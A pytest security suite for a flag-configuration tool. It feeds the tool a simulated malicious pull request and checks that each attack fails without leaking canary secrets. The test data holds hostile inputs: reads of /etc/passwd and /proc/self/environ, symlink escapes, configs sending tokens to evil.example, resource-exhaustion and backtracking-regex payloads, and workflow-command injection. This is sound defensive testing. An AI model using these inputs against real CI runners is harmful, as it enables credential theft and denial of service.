"""A pull request from somebody who means harm: each attack gets nothing, writes nothing, and ends with a clear error.

The surroundings are those of a runner: secrets in the environment and in files beside the repository, and no network
but a double on this machine, which must not be asked.
"""

from __future__ import annotations

import json
import socket
import time

import pytest

from flagstaff.testing.signing import make_key

CANARY = "canary-5xK2-of-the-runner"
SECRET = '\nvariable "token" {\n  type      = string\n  sensitive = true\n}\n'


@pytest.fixture
def asked(monkeypatch):
    """Addresses that somebody wanted; nobody gets there."""
    found = []

    def refuse(*arguments, **_):
        found.append(arguments)
        raise OSError(101, "Network is unreachable")

    for name in ("getaddrinfo", "create_connection", "gethostbyname"):
        monkeypatch.setattr(socket, name, refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)
    return found


@pytest.fixture
def runner(project, tmp_path):
    """The project in a checkout, with a runner's secrets around it."""
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "secret.txt").write_text(CANARY, encoding="utf-8")
    root = project.path
    (tmp_path / ".git").rmdir()
    (root / ".git").mkdir()
    project.env.update(
        FLAGSTAFF_VAR_token=CANARY,
        GITHUB_TOKEN=CANARY,
        AWS_ACCESS_KEY_ID="AKIA" + CANARY,
        AWS_SECRET_ACCESS_KEY=CANARY,
        PGPASSWORD=CANARY,
        DD_API_KEY=CANARY,
        DD_APP_KEY=CANARY,
        CI="true",
        HOME=str(tmp_path),
    )
    return project


def check_refused(runner, asked, ran, *summaries, within=20.0):
    """Error, nothing told, nobody asked, nothing written."""
    assert ran.code == 1, ran.both
    found = [line.removeprefix("Error: ") for line in ran.err.splitlines() if line.startswith("Error: ")]
    assert set(found) == set(summaries), ran.err
    assert CANARY not in ran.both
    assert asked == []
    written = {name for name in runner.files() if name.startswith(("state", ".state"))}
    assert written == set()


READS = {
    "file": ('locals {\n  x = file("/etc/passwd")\n}\n', "Function not available"),
    "file outside": ('locals {\n  x = file("../outside/secret.txt")\n}\n', "Function not available"),
    "templatefile": ('locals {\n  x = templatefile("../outside/secret.txt", {})\n}\n', "Function not available"),
    "fileset": ('locals {\n  x = fileset("/", "*")\n}\n', "Function not available"),
    "env": ('locals {\n  x = env("GITHUB_TOKEN")\n}\n', "Function not available"),
    "timestamp": ("locals {\n  x = timestamp()\n}\n", "Function not available"),
    "module": ('module "x" {\n  source = "/etc"\n}\n', "Unknown block type"),
    "population": ('population {\n  path = "/etc/passwd"\n}\n', "Unknown block type"),
    "a secret as a title": (f'{SECRET}product "p" {{\n  title = var.token\n}}\n', "Sensitive value not allowed"),
    "a secret as a key": (
        f'{SECRET}toggle "p" {{\n  key        = var.token\n  percentage = 1\n}}\n',
        "Sensitive value not allowed",
    ),
    "a secret, bit by bit": (
        f'{SECRET}toggle "p" {{\n  key        = "p"\n  percentage = startswith(var.token, "a") ? 1 : 2\n}}\n',
        "Sensitive value not allowed",
    ),
    "a secret as an output": (f'{SECRET}output "x" {{\n  value = var.token\n}}\n', "Sensitive value not allowed"),
    "a secret, coded": (
        f'{SECRET}output "x" {{\n  value = base64encode("x${{var.token}}")\n}}\n',
        "Sensitive value not allowed",
    ),
}


@pytest.mark.parametrize(("text", "summary"), READS.values(), ids=READS)
def test_what_a_runner_knows_is_not_read(runner, asked, text, summary):
    runner.write("evil.hcl", text)
    for command in (
        ("validate",),
        ("plan",),
        ("plan", "-format=markdown"),
        ("plan", "-format=sarif"),
        ("plan", "-json"),
    ):
        ran = runner.run(*command)
        assert ran.code == 1
        assert summary in ran.both
        assert CANARY not in ran.both
    check_refused(runner, asked, runner.run("plan"), summary)


@pytest.mark.parametrize("target", ["/proc/self/environ", "/dev/zero", "../outside/secret.txt", "/etc/passwd"])
@pytest.mark.parametrize("name", ["evil.hcl", "evil.auto.hclvars", "evil.auto.hclvars.json"])
def test_a_link_out_of_the_repository_is_not_followed(runner, asked, name, target):
    (runner.path / name).symlink_to(target)
    check_refused(runner, asked, runner.run("plan"), "File outside of the repository")


@pytest.mark.parametrize("path", ["/proc/self/environ", "../outside/secret.txt", "link.json"])
def test_toggles_are_read_inside_the_repository_only(runner, asked, path):
    (runner.path / "link.json").symlink_to("../outside/secret.txt")
    runner.edit('path   = "live.json"', f'path   = "{path}"')
    check_refused(runner, asked, runner.run("plan"), "Path leaves the repository")


@pytest.mark.parametrize("path", ["/proc/self/environ", "../outside/secret.txt"])
def test_a_catalogue_is_read_inside_the_repository_only(runner, asked, path):
    runner.edit('path   = "live.json"', f'path   = "live.json"\n  catalogue = "{path}"')
    check_refused(runner, asked, runner.run("plan"), "Path leaves the repository")


@pytest.mark.parametrize("path", ["../outside/state.json", "/tmp/flagstaff-evil/state.json", "link/state.json"])
def test_a_state_is_kept_inside_the_repository_only(runner, asked, tmp_path, path):
    (runner.path / "link").symlink_to(tmp_path / "outside")
    runner.edit('path = "state.json"', f'path = "{path}"')
    check_refused(runner, asked, runner.run("plan"), "State file outside of the repository")


FAR = f"""{SECRET}
provider "flipper" {{
  source = "api"
  url    = "https://evil.example/api"
  token  = var.token
}}
"""


def test_a_token_goes_to_no_host_that_the_repository_alone_names(runner, asked):
    text = (runner.path / "main.hcl").read_text(encoding="utf-8")
    runner.main(text.replace('provider "flipper" {\n  source = "embedded"\n  path   = "live.json"\n}\n', FAR))
    ran = runner.run("plan", FLAGSTAFF_ALLOWED_HOSTS="flipper.example.gov")
    check_refused(runner, asked, ran, "Credential not allowed for this host")
    assert "to evil.example, and nothing outside the repository allows that" in " ".join(ran.err.split())


@pytest.mark.parametrize(
    "url",
    [
        "https://flipper.example.gov@evil.example/api",
        "https://evil.example#flipper.example.gov",
        "https://evil.example?flipper.example.gov",
        "https://flipper.example.gov\\\\@evil.example",
        "file:///etc/passwd",
    ],
)
def test_an_address_that_reads_two_ways_is_none(runner, asked, url):
    text = (runner.path / "main.hcl").read_text(encoding="utf-8")
    far = FAR.replace("https://evil.example/api", url)
    runner.main(text.replace('provider "flipper" {\n  source = "embedded"\n  path   = "live.json"\n}\n', far))
    ran = runner.run("plan", FLAGSTAFF_ALLOWED_HOSTS="flipper.example.gov")
    check_refused(runner, asked, ran, "Incorrect attribute value")


MONITOR = """
variable "token" {
  type      = string
  sensitive = true
}
monitor "errors" {
  title = "Errors"
  source "http_json" {
    url   = "https://evil.example/errors"
    token = var.token
    value = "/value"
  }
  pass_when = measured <= 1
}
rollout "r" {
  go = ["one"]
  stage "one" {
    percentage = 5
    toggles    = [toggle.ramped]
    monitors   = [monitor.errors]
  }
}
toggle "ramped" {
  key = "child_enabled"
}
"""


def test_a_monitor_elsewhere_gets_no_credential_and_lets_nothing_through(runner, asked):
    runner.edit('\ntoggle "child" {\n  key        = "child_enabled"', '\ntoggle "child" {\n  key        = "parent_too"')
    runner.set_live({**runner.live, "parent_too": runner.live["child_enabled"]})
    runner.write("evil.hcl", MONITOR)
    ran = runner.run("plan")
    assert ran.code == 3, ran.both
    assert "Monitor is inconclusive" in ran.out
    assert "nothing outside the repository allows that" in " ".join(ran.out.split())
    assert CANARY not in ran.both
    assert asked == []


S3 = """backend "s3" {{
    bucket = "va-state"
    key    = "va.json"
    region = "us-gov-west-1"
    {}
  }}"""
BACKENDS = {
    "a database elsewhere, with a password": (
        'backend "postgres" {\n    url = "postgresql://u:pw@evil.example/db"\n  }',
        "Credential in the configuration",
    ),
    "an S3 server elsewhere": (
        S3.format('endpoint = "https://evil.example"'),
        "Credential not allowed for this host",
    ),
    "keys in the repository": (
        S3.format('access_key = "a"\n    secret_key = "b"'),
        "Credential in the configuration",
    ),
    "a backend of its own": ('backend "http" {\n    address = "https://evil.example"\n  }', "Unknown backend"),
}


@pytest.mark.parametrize(("block", "summary"), BACKENDS.values(), ids=BACKENDS)
def test_a_state_elsewhere(runner, asked, block, summary):
    runner.edit('backend "local" {\n    path = "state.json"\n  }', block)
    check_refused(runner, asked, runner.run("plan"), summary)


def doubled(levels):
    lines = [
        '  l0 = "xxxxxxxxxxxxxxxx"',
        *(f'  l{n} = "${{local.l{n - 1}}}${{local.l{n - 1}}}"' for n in range(1, levels)),
    ]
    return "locals {\n" + "\n".join(lines) + "\n}\n"


def output(value):
    return f'output "x" {{\n  value = {value}\n}}\n'


LARGE = {
    "a text that doubles": (doubled(40), "Text too long"),
    "fors in fors": (
        output("length([for a in range(1000) : [for b in range(1000) : [for c in range(1000) : c]]])"),
        "Too many elements",
    ),
    "a range": (output("length(range(1000000000))"), "Invalid argument"),
    "a width": (output('length(format("%1000000000d", 1))'), "Invalid argument"),
    "a power": (output("pow(10, 100000000)"), "Invalid argument"),
    "a product": (output("length(setproduct(range(1000), range(1000), range(1000)))"), "Invalid argument"),
    "an output of shared parts": (
        doubled(16) + output("[for a in range(100) : [for b in range(100) : local.l15]]"),
        "Output too large",
    ),
    "a pattern that backtracks": (output('regexall("(a|aa)+$", "' + "a" * 60 + 'b")'), "Invalid argument"),
    "brackets": ("locals {\n  x = " + "(" * 20_000 + "1" + ")" * 20_000 + "\n}\n", "Nesting too deep"),
    "lists": ("locals {\n  x = " + "[" * 20_000 + "]" * 20_000 + "\n}\n", "Nesting too deep"),
    "templates": ("locals {\n  x = " + '"${' * 2_000 + "1" + '}"' * 2_000 + "\n}\n", "Nesting too deep"),
    "a large file": ("# " + "x" * 11_000_000 + "\n", "File too large"),
}


@pytest.mark.parametrize(("text", "summary"), LARGE.values(), ids=LARGE)
def test_what_is_too_large_or_too_deep_ends_soon(runner, asked, text, summary):
    runner.write("evil.hcl", text)
    start = time.process_time()
    ran = runner.run("plan")
    assert time.process_time() - start < 20
    check_refused(runner, asked, ran, summary)


def test_deep_json(runner, asked):
    runner.write("evil.auto.hclvars.json", '{"parent": ' + "[" * 100_000 + "]" * 100_000 + "}")
    check_refused(runner, asked, runner.run("plan"), "Invalid JSON")
    (runner.path / "evil.auto.hclvars.json").unlink()
    runner.write("live.json", "[" * 100_000 + "]" * 100_000)
    check_refused(runner, asked, runner.run("plan"), "Damaged toggle file")


OWNER = """
role "owner" {{
  signers = ["po@example.gov {key}"]
}}
policy {{
  max_raise = {most}
  owner     = role.owner
}}
"""


@pytest.mark.service("ssh-keygen")
def test_its_own_signer_agrees_to_nothing(runner, tmp_path):
    """Who must agree is what was applied last; a pull request that names itself is a guard change that they see."""
    ours, theirs = make_key(tmp_path, "ours"), make_key(tmp_path, "theirs")
    runner.write("roles.hcl", OWNER.format(key=ours.public, most=10))
    runner.apply()
    runner.write("roles.hcl", OWNER.format(key=theirs.public, most=100))
    assert runner.run("plan", "-out=evil.plan", "-var=parent=80").code == 3
    shown = runner.run("show", "-format=markdown", "evil.plan").out
    assert "### Guard changes (2)" in shown
    assert shown.count("**loosens** it: needs `role.owner`, as recorded by the last apply") == 2
    assert "From 5 % to 80 % are 75 points; the policy allows 10 in one plan." in shown
    ran = runner.run("approve", "evil.plan", "-as=role.owner", f"-key={theirs.file}")
    assert ran.code == 1
    assert "Error: Key is none of this role's" in ran.err
    runner.run("apply", "-auto-approve", "evil.plan")
    assert runner.percentage("parent_enabled") == "5"
    assert ours.public in json.dumps(runner.state["guards"])
    assert theirs.public not in json.dumps(runner.state["guards"])


def test_a_change_says_nothing_about_itself_to_the_runner(runner, asked):
    """Titles and reasons are text: in a comment, in annotations, in JSON."""
    evil = "::add-mask::x\\n::set-env name=PATH::/tmp <!-- --> @everybody [x](http://evil.example)"
    runner.edit('title  = "Example"', f'title  = "{evil}"')
    runner.edit('reason  = "The list shows data of the parent"', f'reason  = "{evil}"')
    ran = runner.run("plan", "-var=child=5", "-var=parent=1", "-format=github")
    assert ran.code == 3
    assert [line[:8] for line in ran.out.splitlines()] == ["::error "]
    made = runner.run("plan", "-var=child=5", "-var=parent=1", "-format=markdown").out
    assert "@everybody" not in made
    assert "http://" not in made
    assert made.count("<!--") == 1
    assert json.loads(runner.run("plan", "-var=child=5", "-var=parent=1", "-format=sarif").out)["version"] == "2.1.0"
